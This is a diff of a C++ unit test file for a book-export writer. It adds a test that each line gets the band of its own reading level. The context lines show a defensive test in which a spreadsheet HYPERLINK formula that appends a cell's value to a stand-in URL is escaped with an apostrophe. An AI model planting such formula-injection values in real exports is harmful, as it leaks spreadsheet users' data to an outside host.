@@ -99,6 +99,38 @@ TEST_F(ExportWriter, RefusesToWriteOverTheProgramsOwnFiles) {
                                 ExportFormat::Comma, DefaultExportFields(), rows_));
 }
 
+TEST(ExportLevels, EachLineGetsTheBandOfItsOwnLevel) {
+    // More level texts than the writer keeps the bands of, twice over.
+    const std::string levels[] = {"Early Years (R-2)",
+                                  "r-2",
+                                  "Primary Years (3-5)",
+                                  "3-5",
+                                  "Middle Years (6-9, Special)",
+                                  "6-9",
+                                  "Mature",
+                                  "",
+                                  "R-2 and 3-5",
+                                  "Years 3-5 and 6-9",
+                                  "x"};
+    const std::string bands = "11223344124";
+    std::vector<std::string> lines;
+    std::string expected = "Levels\r\n";
+    for (std::size_t i = 0; i < 2 * bands.size(); ++i) {
+        BookRecord record;
+        record.id = static_cast<std::int64_t>(i) + 1;
+        record.level = levels[i % bands.size()];
+        lines.push_back(PackBookRecord(record));
+        expected += bands.substr(i % bands.size(), 1) + "\r\n";
+    }
+    const TestFolder folder;
+    ExportFieldSet levelsOnly{};
+    for (int i = 0; i < ExportFieldCount; ++i)
+        levelsOnly[i] = ExportFields()[i].name == "levels";
+    ASSERT_TRUE(WriteExportLines(CurrentDataFolder(), "out", ExportFormat::Tab, levelsOnly,
+                                 std::vector<std::string_view>(lines.begin(), lines.end())));
+    EXPECT_EQ(ReadFile("out"), expected);
+}
+
 TEST(ExportValue, WhatASpreadsheetWouldRunGetsAnApostrophe) {
     const std::pair<std::string, std::string> cases[] = {
         {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=HYPERLINK(\"http://x\"&A1,\"x\")"},
